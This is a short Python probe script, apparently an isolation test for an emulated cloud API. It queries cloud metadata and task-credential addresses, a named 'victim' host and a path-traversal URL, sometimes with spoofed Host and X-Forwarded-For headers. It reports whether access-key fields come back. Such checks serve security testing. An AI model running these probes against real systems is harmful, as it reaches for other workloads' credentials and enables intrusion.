# Asks wherever credentials and other workloads' services are found, and says what it is told.
import http.client
import os
import sys
import urllib.parse

victim = sys.argv[1]


def ask(name, at, method, path, headers=None):
    try:
        connection = http.client.HTTPConnection(at, timeout=2)
        connection.request(method, path, headers=headers or {})
        answer = connection.getresponse()
        text = answer.read(4096).decode(errors="replace")
        print(name, answer.status, *(word for word in ("AccessKeyId", "SecretAccessKey") if word in text))
    except OSError:
        pass


api = urllib.parse.urlsplit(os.environ["AWS_ENDPOINT_URL"]).netloc
ask("api", api, "POST", "/?Action=GetCallerIdentity&Version=2011-06-15")
ask("api", api, "GET", "/_pilvi/health")
ask("api", api, "GET", "/_pilvi/../_pilvi/")
for host in ("169.254.170.2", "169.254.169.254", "169.254.169.253:80", victim, f"{victim}:51679"):
    for path in ("/v2/credentials/", "/v2/metadata", "/v4/", "/latest/meta-data/iam/security-credentials/"):
        for headers in ({}, {"X-Forwarded-For": victim, "Host": victim}):
            ask(host, host, "GET", path, headers)
